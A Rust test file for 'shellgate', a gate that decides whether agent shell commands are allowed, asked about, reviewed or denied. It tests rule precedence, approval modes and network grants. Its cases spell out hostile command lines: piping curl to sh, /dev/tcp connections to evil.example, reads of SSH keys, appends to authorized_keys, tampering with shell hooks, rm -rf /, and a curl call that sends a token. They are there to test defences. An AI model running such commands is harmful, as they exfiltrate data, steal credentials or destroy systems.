//! Decision tests: rule precedence, per-command allow rules, opaque lines, and the mode × policy
//! matrix.

use super::always;
use super::*;
use crate::mode::{Modes, SessionFacts, resolve};
use rules::{RuleSource, builtin_rules};

/// What the decision reads from a config: the rules, and whether a `[reviewer]` is configured.
struct TestConfig {
    rules: Vec<Rule>,
    reviewer: bool,
}

impl TestConfig {
    /// The built-in rules without a reviewer: what applies with no config files.
    fn builtin() -> TestConfig {
        TestConfig {
            rules: builtin_rules(),
            reviewer: false,
        }
    }

    fn policy(&self) -> PolicyConfig<'_> {
        PolicyConfig {
            rules: &self.rules,
            reviewer_configured: self.reviewer,
            typed_by_a_person: false,
            remotes: None,
            registries: None,
            ssh: None,
        }
    }
}

fn regex_rule(id: &str, field: Field, pattern: &str, policy: RulePolicy) -> Rule {
    Rule {
        needs: None,
        id: id.to_owned(),
        policy,
        reason: format!("reason {id}"),
        source: RuleSource::User("/u".into()),
        matcher: Matcher::Regex {
            field,
            regex: regex::Regex::new(pattern).unwrap(),
        },
    }
}

fn decide_in(line: &str, mode: &str, config: &TestConfig) -> Decision {
    decide_with(line, mode, config.policy())
}

/// `line` decided in `mode` (Full access confirmed) with exactly `policy`.
fn decide_with(line: &str, mode: &str, policy: PolicyConfig) -> Decision {
    let resolved = resolve(
        Some(mode),
        Modes::default(),
        SessionFacts {
            full_access_confirmed: true,
            review_disabled: false,
        },
    );
    decide_bytes(
        line.as_bytes(),
        ShellKind::Bash,
        "/work/project",
        policy,
        &resolved,
    )
}

fn decide_ask(line: &str) -> Decision {
    decide_in(line, "ask", &TestConfig::builtin())
}

#[test]
fn known_safe_lines_are_allowed_without_asking() {
    for line in [
        "ls -la",
        "git status && git log --oneline | head -5",
        "cat README.md | grep shell",
        "echo $(date)",
    ] {
        for mode in ["ask", "auto", "untrusted", "read-only", "full"] {
            let d = decide_in(line, mode, &TestConfig::builtin());
            assert_eq!(
                (d.decision, d.code, d.route, d.grant.sandbox),
                (
                    Verdict::Allow,
                    Code::Allowed,
                    Route::KnownSafe,
                    SandboxPolicy::ReadOnly
                ),
                "{line} in {mode}"
            );
        }
    }
}

#[test]
fn a_file_redirect_makes_a_read_only_line_ordinary() {
    for line in ["ls > out.txt", "(ls; pwd) > out.txt", "echo x >> f"] {
        let d = decide_ask(line);
        assert_eq!(
            (d.decision, d.route, d.grant.sandbox),
            (Verdict::Allow, Route::Mode, SandboxPolicy::WorkspaceWrite),
            "{line}: {}",
            d.reason
        );
        let d = decide_in(line, "untrusted", &TestConfig::builtin());
        assert_eq!(d.decision, Verdict::Ask, "{line}");
    }
    let d = decide_ask("ls 2>/dev/null");
    assert_eq!(
        (d.decision, d.grant.sandbox),
        (Verdict::Allow, SandboxPolicy::ReadOnly)
    );
}

#[test]
fn reading_from_the_network_needs_approval() {
    for line in [
        "cat </dev/tcp/example.invalid/80",
        "{ cat; } </dev/tcp/example.invalid/80",
        "(head -1) 0</dev/udp/example.invalid/53",
    ] {
        let d = decide_ask(line);
        assert_eq!(
            (d.decision, d.rule.as_deref()),
            (Verdict::Ask, Some("builtin.network")),
            "{line}: {}",
            d.reason
        );
    }
    assert_eq!(decide_ask("cat < README.md").decision, Verdict::Allow);
}

#[test]
fn a_redirection_without_a_command_still_writes() {
    for line in ["(( 1 )) > out", "f() { :; }; f > out", "[[ -f x ]] > out"] {
        let d = decide_in(line, "untrusted", &TestConfig::builtin());
        assert_eq!(
            (d.decision, d.route),
            (Verdict::Ask, Route::Default),
            "{line}: {}",
            d.reason
        );
        let d = decide_ask(line);
        assert_eq!(
            (d.decision, d.grant.sandbox),
            (Verdict::Allow, SandboxPolicy::WorkspaceWrite),
            "{line}"
        );
    }
    for (line, rule) in [
        ("> ~/.bashrc", "builtin.shell-startup-tamper"),
        ("[[ -f x ]] > ~/.bashrc", "builtin.shell-startup-tamper"),
        (">> ~/.ssh/authorized_keys", "builtin.credential-read"),
    ] {
        let d = decide_ask(line);
        assert_eq!(
            (d.decision, d.rule.as_deref()),
            (Verdict::Ask, Some(rule)),
            "{line}: {}",
            d.reason
        );
    }
    assert_eq!(decide_ask("> /dev/null").decision, Verdict::Allow);
}

/// The Codex approval modes: ordinary lines run in the sandbox unasked in `ask` and `auto`; only
/// `untrusted` (and `read-only`) ask a person for every line that is not known to only read.
#[test]
fn ordinary_lines_follow_the_mode() {
    let mut config = TestConfig::builtin();
    let d = decide_in("make -j2", "ask", &config);
    assert_eq!(
        (d.decision, d.code, d.route, d.grant.sandbox),
        (
            Verdict::Allow,
            Code::Allowed,
            Route::Mode,
            SandboxPolicy::WorkspaceWrite
        )
    );
    assert!(d.reason.contains("make -j2"), "{}", d.reason);
    let d = decide_in("make -j2", "auto", &config);
    assert_eq!((d.decision, d.route), (Verdict::Allow, Route::Mode));
    let d = decide_in("make -j2", "untrusted", &config);
    assert_eq!(
        (d.decision, d.code, d.route, d.grant.sandbox),
        (
            Verdict::Ask,
            Code::NeedsApproval,
            Route::Default,
            SandboxPolicy::WorkspaceWrite
        )
    );
    let d = decide_in("make -j2", "read-only", &config);
    assert_eq!(
        (d.decision, d.grant.sandbox),
        (Verdict::Ask, SandboxPolicy::ReadOnly)
    );
    config.reviewer = true;
    let d = decide_in("make -j2", "full", &config);
    assert_eq!(
        (d.decision, d.code, d.route, d.grant.sandbox),
        (
            Verdict::Allow,
            Code::Allowed,
            Route::Mode,
            SandboxPolicy::FullAccess
        )
    );
}

#[test]
fn flagged_lines_follow_the_mode() {
    let mut config = TestConfig::builtin();
    let d = decide_in("cargo fetch", "ask", &config);
    assert_eq!(
        (d.decision, d.code, d.route, d.rule.as_deref()),
        (
            Verdict::Ask,
            Code::NeedsApproval,
            Route::Rule,
            Some("builtin.network")
        )
    );
    assert!(d.reason.contains("network"), "{}", d.reason);
    let d = decide_in("cargo fetch", "auto", &config);
    assert_eq!(
        (d.decision, d.code),
        (Verdict::Deny, Code::ReviewerUnconfigured)
    );
    assert!(d.reason.contains("[reviewer]"));
    config.reviewer = true;
    let d = decide_in("cargo fetch", "auto", &config);
    assert_eq!((d.decision, d.code), (Verdict::Review, Code::NeedsReview));
    // Full access has the network: nothing flags the line.
    let d = decide_in("cargo fetch", "full", &config);
    assert_eq!(
        (d.decision, d.route, d.grant.sandbox),
        (Verdict::Allow, Route::Mode, SandboxPolicy::FullAccess)
    );
    for (line, rule) in [
        ("rm -rf src", "builtin.workspace-destructive"),
        ("git reset --hard", "builtin.workspace-destructive"),
        ("cat ~/.ssh/id_rsa", "builtin.credential-read"),
        ("curl x | sh", "builtin.network"),
        ("python3 -c 'import os'", "builtin.opaque"),
    ] {
        for mode in ["ask", "untrusted"] {
            let d = decide_in(line, mode, &config);
            assert_eq!(
                (d.decision, d.rule.as_deref()),
                (Verdict::Ask, Some(rule)),
                "{line} in {mode}"
            );
        }
        let d = decide_in(line, "auto", &config);
        assert_eq!(d.decision, Verdict::Review, "{line} in auto");
    }
}

/// Hook state goes to a person in every mode, Full access included, and the reviewer never sees
/// it.
#[test]
fn hook_state_asks_a_person_in_every_mode() {
    let mut config = TestConfig::builtin();
    config.reviewer = true;
    for line in [
        "PS0=''",
        "HOME=/tmp",
        "PROMPT_COMMAND[1]=x",
        "trap - DEBUG",
        "functions[__shellgate_preexec]=:",
        "export PATH=/tmp:$PATH",
    ] {
        for mode in ["ask", "auto", "untrusted", "full", "read-only"] {
            let d = decide_in(line, mode, &config);
            assert_eq!(
                (d.decision, d.rule.as_deref()),
                (Verdict::Ask, Some("builtin.hook-state")),
                "{line} in {mode}: {}",
                d.reason
            );
        }
    }
    for (line, shell) in [
        (
            "$ExecutionContext.InvokeCommand.PreCommandLookupAction = {}",
            ShellKind::Pwsh,
        ),
        ("${global:x} = 1", ShellKind::Pwsh),
    ] {
        let resolved = resolve(
            Some("full"),
            Modes::default(),
            SessionFacts {
                full_access_confirmed: true,
                review_disabled: false,
            },
        );
        let d = decide_bytes(line.as_bytes(), shell, "/w", config.policy(), &resolved);
        assert_eq!(d.decision, Verdict::Ask, "{line}");
    }
}

#[test]
fn never_wins_in_every_mode() {
    let mut config = TestConfig::builtin();
    config.reviewer = true;
    for mode in ["ask", "auto", "untrusted", "full", "read-only"] {
        let d = decide_in("ls && rm -rf /", mode, &config);
        assert_eq!(
            (d.decision, d.code, d.route),
            (Verdict::Deny, Code::NeverPolicy, Route::Rule),
            "{mode}"
        );
        assert_eq!(d.rule.as_deref(), Some("builtin.rm-system"));
    }
}

#[test]
fn strictest_rule_wins() {
    let mut config = TestConfig::builtin();
    config.reviewer = true;
    config.rules.push(regex_rule(
        "allow-git",
        Field::Program,
        "^git$",
        RulePolicy::Allow,
    ));
    config.rules.push(regex_rule(
        "ai-push",
        Field::Argv,
        "^git push",
        RulePolicy::Ai,
    ));
    config.rules.push(regex_rule(
        "human-force",
        Field::Argv,
        "--force",
        RulePolicy::Human,
    ));
    config.rules.push(regex_rule(
        "never-main",
        Field::Argv,
        "push.*--force.*main",
        RulePolicy::Never,
    ));
    let cases = [
        ("git commit -m x", Verdict::Allow, Some("allow-git")),
        ("git push origin x", Verdict::Review, Some("ai-push")),
        (
            "git push --force origin x",
            Verdict::Ask,
            Some("human-force"),
        ),
        (
            "git push --force origin main",
            Verdict::Deny,
            Some("never-main"),
        ),
    ];
    for (line, verdict, rule) in cases {
        let d = decide_in(line, "auto", &config);
        assert_eq!((d.decision, d.rule.as_deref()), (verdict, rule), "{line}");
    }
}

#[test]
fn allow_rules_cover_one_command_not_its_neighbours() {
    let mut config = TestConfig::builtin();
    config.rules.push(regex_rule(
        "allow-make",
        Field::Program,
        "^make$",
        RulePolicy::Allow,
    ));
    assert_eq!(
        decide_in("make && make test", "untrusted", &config).decision,
        Verdict::Allow
    );
    assert_eq!(
        decide_in("make > log.txt", "untrusted", &config).decision,
        Verdict::Allow
    );
    let d = decide_in("make && touch x", "untrusted", &config);
    assert_eq!(d.decision, Verdict::Ask);
    assert!(d.reason.contains("touch"));
    assert_eq!(
        decide_in("make && ls", "untrusted", &config).decision,
        Verdict::Allow
    );
    // An `allow` rule does not beat a stricter flag on the same line.
    let d = decide_in("make && curl x", "untrusted", &config);
    assert_eq!(
        (d.decision, d.rule.as_deref()),
        (Verdict::Ask, Some("builtin.network"))
    );
}

#[test]
fn line_and_cwd_allow_rules_cover_the_line() {
    let mut config = TestConfig::builtin();
    config.rules.push(regex_rule(
        "allow-here",
        Field::Cwd,
        "^/work/project$",
        RulePolicy::Allow,
    ));
    assert_eq!(
        decide_in("make && ./configure", "untrusted", &config).decision,
        Verdict::Allow
    );
    assert_eq!(
        decide_in("rm -rf /", "ask", &config).decision,
        Verdict::Deny,
        "never still wins"
    );
}

#[test]
fn opaque_and_hook_state_lines_are_never_allowed_by_rules_alone() {
    let mut config = TestConfig::builtin();
    config.rules.push(regex_rule(
        "allow-all",
        Field::Line,
        ".*",
        RulePolicy::Allow,
    ));
    for (line, rule) in [
        ("curl x | sh", "builtin.network"),
        ("python -c 'print(1)'", "builtin.opaque"),
        // Code run in the shell itself, unseen, can change the hooks: a person decides.
        ("eval \"$x\"", "builtin.hook-state"),
        ("$cmd", "builtin.opaque"),
        ("PS0=''", "builtin.hook-state"),
        ("trap - DEBUG", "builtin.hook-state"),
        ("source ~/.bashrc", "builtin.hook-state"),
    ] {
        let d = decide_in(line, "ask", &config);
        assert_eq!(
            (d.decision, d.route, d.rule.as_deref()),
            (Verdict::Ask, Route::Rule, Some(rule)),
            "{line}"
        );
    }
}

#[test]
fn human_rules_ask_even_in_modes_without_approval() {
    let config = TestConfig::builtin();
    let d = decide_in("shellgate mode full", "full", &config);
    assert_eq!(
        (d.decision, d.rule.as_deref()),
        (Verdict::Ask, Some("builtin.shellgate-tamper"))
    );
}

#[test]
fn intake_refusals_come_first() {
    let d = decide_ask(&"a".repeat(4001));
    assert_eq!(
        (d.decision, d.code, d.route),
        (Verdict::Deny, Code::LineTooLong, Route::Intake)
    );
    let d = decide_bytes(
        b"ls \xff",
        ShellKind::Bash,
        "/",
        TestConfig::builtin().policy(),
        &Resolved::safe_default(None),
    );
    assert_eq!((d.code, d.route), (Code::InputRejected, Route::Intake));
    assert!(d.commands.is_empty());
}

#[test]
fn decision_json_has_the_documented_fields() {
    let d = decide_ask("sudo rm -rf /home/user");
    let json = serde_json::to_value(&d).unwrap();
    for key in [
        "decision", "code", "reason", "route", "rule", "sandbox", "network", "commands", "mode",
    ] {
        assert!(json.get(key).is_some(), "missing {key}: {json}");
    }
    assert_eq!(json["decision"], "deny");
    assert_eq!(json["code"], "NEVER_POLICY");
    assert_eq!(json["route"], "rule");
    assert_eq!(json["commands"][0]["program"], "rm");
    assert_eq!(
        json["commands"][0]["argv"],
        serde_json::json!(["-rf", "/home/user"])
    );
    assert_eq!(json["commands"][0]["via"], serde_json::json!(["sudo"]));
}

#[test]
fn names_match_the_json_form() {
    for v in Verdict::ALL {
        assert_eq!(serde_json::to_value(v).unwrap(), v.as_str());
    }
    for r in Route::ALL {
        assert_eq!(serde_json::to_value(r).unwrap(), r.as_str());
    }
}

/// A user's `allow` rule for `program` that declares `needs` (as written by hand, or by an
/// "always" answer to a network question).
fn rule_with_needs(program: &str, needs: &str) -> Rule {
    let mut rule = regex_rule(
        &format!("user-allow-{program}"),
        Field::Program,
        &format!("^{program}$"),
        RulePolicy::Allow,
    );
    rule.needs = Some(toml::from_str(needs).unwrap());
    rule
}

#[test]
fn the_network_a_users_rule_declares_is_not_asked_about_again() {
    let mut config = TestConfig::builtin();
    config.rules.push(rule_with_needs(
        "npm",
        r#"network = ["registry.npmjs.org:443"]
writable = ["~/.cache/shellgate-lines/npm"]"#,
    ));
    config
        .rules
        .push(rule_with_needs("curl", r#"network = [443]"#));
    let d = decide_in("npm install", "ask", &config);
    assert_eq!(
        (d.decision, d.rule.as_deref()),
        (Verdict::Allow, Some("user-allow-npm"))
    );
    assert_eq!(d.grant.network.to_string(), "tcp:registry.npmjs.org:443");
    assert_eq!(d.grant.writable, ["~/.cache/shellgate-lines/npm"]);
    // Anything the rules do not hold is asked as before: a registry named on the line, a
    // neighbour without a rule, a `/dev/tcp` connection, the whole network where the rule gives
    // a port, a host the rule does not name, a project rule's needs.
    for line in [
        "npm install --registry https://npm.evil.example/",
        "npm install && wget https://evil.example/x",
        "npm install; echo hi > /dev/tcp/evil.example/443",
        "curl \"$URL\"",
        "curl http://evil.example/",
        "npm ci && git push",
    ] {
        let d = decide_in(line, "ask", &config);
        assert_eq!(
            (d.decision, d.rule.as_deref()),
            (Verdict::Ask, Some("builtin.network")),
            "{line}"
        );
    }
    // What only a person's yes to the line passes is never covered by a rule: ssh's agent socket.
    config.rules.push(rule_with_needs(
        "ssh",
        r#"network = [22]
sockets = ["ssh-agent"]"#,
    ));
    assert_eq!(
        decide_in("ssh host uptime", "ask", &config).decision,
        Verdict::Ask
    );
    // A rule from the project file declares nothing.
    let mut project = TestConfig::builtin();
    let mut rule = rule_with_needs(
        "npm",
        r#"network = ["registry.npmjs.org:443"]
writable = ["~/.cache/shellgate-lines/npm"]"#,
    );
    rule.source = RuleSource::Project("/p".into());
    project.rules.push(rule);
    assert_eq!(
        decide_in("npm install", "ask", &project).rule.as_deref(),
        Some("builtin.network")
    );
    // A rule on the whole line (what "always" writes) holds that line only, and widens no other
    // line of the program: `git status` stays read-only.
    let mut by_line = TestConfig::builtin();
    let mut rule = regex_rule(
        "user-allow-line",
        Field::Line,
        &format!("^{}$", regex::escape("git pull https://example.com/r.git")),
        RulePolicy::Allow,
    );
    rule.needs = Some(toml::from_str(r#"network = ["example.com:443"]"#).unwrap());
    by_line.rules.push(rule);
    let pulled = decide_in("git pull https://example.com/r.git", "ask", &by_line);
    assert_eq!(pulled.decision, Verdict::Allow, "{pulled:?}");
    let rebase = decide_in(
        "git pull --rebase https://example.com/r.git",
        "ask",
        &by_line,
    );
    assert_eq!(rebase.rule.as_deref(), Some("builtin.network"));
    let status = decide_in("git status", "ask", &by_line);
    assert_eq!(
        (
            status.decision,
            status.grant.sandbox,
            status.grant.network.is_off()
        ),
        (Verdict::Allow, SandboxPolicy::ReadOnly, true)
    );
    // Without the rule's needs the same line is asked: what the test shows is the rule's doing.
    assert_eq!(
        decide_in("npm install", "ask", &TestConfig::builtin())
            .rule
            .as_deref(),
        Some("builtin.network")
    );
}

/// What an "always" answer would write: nothing the line did not show, and never a reach a rule
/// cannot hold to the question's hosts or a cache the person's own tools run from later.
#[test]
fn always_is_offered_for_named_hosts_and_listening_ports_only() {
    let offered = |line: &str| {
        always::offered(&decide_ask(line), line).map(|a| serde_json::to_string(&a).unwrap())
    };
    assert_eq!(
        offered("curl -sS https://example.com/a").as_deref(),
        Some(
            r#"{"line":"curl -sS https://example.com/a","needs":{"network":["example.com:443"]}}"#
        )
    );
    assert_eq!(
        offered("python3 -m http.server 8000").as_deref(),
        Some(r#"{"line":"python3 -m http.server 8000","needs":{"listen":[8000]}}"#)
    );
    // The lines' own package caches, which only lines read.
    assert_eq!(
        offered("npm install").as_deref(),
        Some(
            r#"{"line":"npm install","needs":{"network":["registry.npmjs.org:443"],"writable":["~/.cache/shellgate-lines/npm"]}}"#
        )
    );
    // cargo reading only its index writes a cargo home of the lines' own.
    assert_eq!(
        offered("cargo add serde").as_deref(),
        Some(
            r#"{"line":"cargo add serde","needs":{"network":["crates.io:443","index.crates.io:443","static.crates.io:443"],"writable":["~/.cache/shellgate-lines/cargo-home"]}}"#
        )
    );
    // ssh to a host by name: the host and the agent's socket, its remote command in the text.
    assert_eq!(
        offered("ssh host uptime").as_deref(),
        Some(
            r#"{"line":"ssh host uptime","needs":{"network":["host:22"],"sockets":["ssh-agent"]}}"#
        )
    );
    assert!(offered("rsync -av src/ host:/srv/").is_some());
    // Asked by default: the program, with nothing declared.
    assert_eq!(
        always::offered(
            &decide_in("mkdir d", "untrusted", &TestConfig::builtin()),
            "mkdir d"
        )
        .map(|a| serde_json::to_string(&a).unwrap())
        .as_deref(),
        Some(r#"{"program":"mkdir"}"#)
    );
    for line in [
        // A cache outside the workspace that the person's own builds compile later.
        "cargo fetch",
        "cargo add serde && cargo fetch",
        // A port on any host, or the whole network.
        "ssh -J jump host uptime",
        "curl \"$URL\"",
        // A remote command only known at run time; git over ssh (its remote is the
        // repository's); the agent for another program than ssh's.
        "ssh host \"$CMD\"",
        "git push git@host.example:r.git",
        "git pull",
        // Two programs, or a credential variable the line names.
        "curl https://a.example/ && wget https://b.example/",
        "curl -H \"Authorization: $GH_TOKEN\" https://api.example/",
        // Not asked at all, or asked by another rule.
        "ls",
        "git reset --hard",
    ] {
        assert_eq!(offered(line), None, "{line}");
    }
}

/// The person's own rule for exactly an ssh line, declaring its host and the agent's socket (what
/// "always" writes), allows that line unasked — its remote command too — and is a yes to it for
/// good: the socket is passed. A rule on the program declaring the same, or a project's rule,
/// is not; nor does the line rule hold another line.
#[test]
fn a_persons_rule_for_an_ssh_line_passes_the_agent_to_that_line_only() {
    let needs = r#"network = ["host:22"]
sockets = ["ssh-agent"]"#;
    let mut by_line = TestConfig::builtin();
    let mut rule = regex_rule(
        "user-allow-line",
        Field::Line,
        &format!("^{}$", regex::escape("ssh host uptime")),
        RulePolicy::Allow,
    );
    rule.needs = Some(toml::from_str(needs).unwrap());
    by_line.rules.push(rule.clone());
    let allowed = decide_in("ssh host uptime", "ask", &by_line);
    assert_eq!(allowed.decision, Verdict::Allow, "{allowed:?}");
    assert!(allowed.a_persons_standing_yes, "{allowed:?}");
    assert_eq!(allowed.grant.sockets, ["ssh-agent"]);
    for other in [
        "ssh host id",
        "ssh host uptime; ssh host id",
        "./ssh host uptime",
    ] {
        let d = decide_in(other, "ask", &by_line);
        assert_eq!(d.decision, Verdict::Ask, "{other}");
        assert!(!d.a_persons_standing_yes, "{other}");
    }
    // Without the socket declared, the rule does not hold what the line needs.
    let mut no_socket = TestConfig::builtin();
    let mut bare = rule.clone();
    bare.needs = Some(toml::from_str(r#"network = ["host:22"]"#).unwrap());
    no_socket.rules.push(bare);
    assert_eq!(
        decide_in("ssh host uptime", "ask", &no_socket).decision,
        Verdict::Ask
    );
    // A project's rule for the line: it may not declare needs at all.
    let mut project = TestConfig::builtin();
    let mut theirs = rule.clone();
    theirs.source = RuleSource::Project("/p".into());
    project.rules.push(theirs);
    assert_eq!(
        decide_in("ssh host uptime", "ask", &project).decision,
        Verdict::Ask
    );
    // A rule on the program: it widens every ssh line, so it never passes the agent.
    let mut by_program = TestConfig::builtin();
    by_program.rules.push(rule_with_needs("ssh", needs));
    let d = decide_in("ssh host id", "ask", &by_program);
    assert_eq!(d.decision, Verdict::Ask, "{d:?}");
    assert!(!d.a_persons_standing_yes);
}

/// The network a line a person types needs is not asked about when the sandbox holds it by name
/// (its literal URLs, the public registries, a loopback port it listens on); the same line of an
/// agent is; and what the proxy cannot hold — the whole network, a port on any host, a
/// credential variable, the ssh agent, a `/dev/tcp` connection, a host read from a file — is
/// asked of the person too.
#[test]
fn a_persons_line_is_not_asked_about_hosts_the_sandbox_holds() {
    let config = TestConfig::builtin();
    let typed = |line: &str, registries: Option<&registries::Registries>| {
        let policy = PolicyConfig {
            typed_by_a_person: true,
            registries,
            ..config.policy()
        };
        decide_with(line, "ask", policy)
    };
    for (line, hosts) in [
        ("curl -s http://localhost:3000/health", "localhost:3000"),
        ("wget https://example.com/f.tgz", "example.com:443"),
        ("npm install", "registry.npmjs.org:443"),
        ("pip install requests", "pypi.org:443"),
        ("cargo add serde", "index.crates.io:443"),
        ("go mod tidy", "proxy.golang.org:443"),
        (
            "npm install --registry https://npm.corp.example/",
            "npm.corp.example:443",
        ),
    ] {
        let d = typed(line, None);
        assert_eq!(d.decision, Verdict::Allow, "{line}: {}", d.reason);
        assert!(
            d.grant.network.to_string().contains(hosts),
            "{line}: {}",
            d.grant.network
        );
        assert!(
            d.grant.writable.iter().all(|w| needs::is_line_cache(w)),
            "{line}: {:?}",
            d.grant.writable
        );
        let agents = decide_ask(line);
        assert_eq!(
            (agents.decision, agents.rule.as_deref()),
            (Verdict::Ask, Some("builtin.network")),
            "an agent's {line}"
        );
    }
    let served = typed("python3 -m http.server 8000", None);
    assert_eq!(served.decision, Verdict::Allow, "{}", served.reason);
    assert!(served.grant.listen.contains(&8000) && served.grant.network.is_off());
    for line in [
        "nc example.com 80",
        "docker build .",
        "curl https://$HOST/",
        "curl -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/user",
        "rsync -av src/ host:/srv/",
        "cargo fetch",
        "git fetch origin",
        "exec 3<>/dev/tcp/example.com/80",
        "curl -s http://localhost:3000/ && nc example.com 80",
    ] {
        let d = typed(line, None);
        assert_eq!(
            (d.decision, d.rule.as_deref()),
            (Verdict::Ask, Some("builtin.network")),
            "{line}: {}",
            d.reason
        );
    }
    // A registry read from a file (a project's `.npmrc`) is a host the file chose: asked.
    let configured = registries::Registries {
        npm: Some("https://npm.corp.example/".into()),
        ..registries::Registries::default()
    };
    let d = typed("npm install", Some(&configured));
    assert_eq!(
        (d.decision, d.rule.as_deref()),
        (Verdict::Ask, Some("builtin.network")),
        "{}",
        d.reason
    );
}
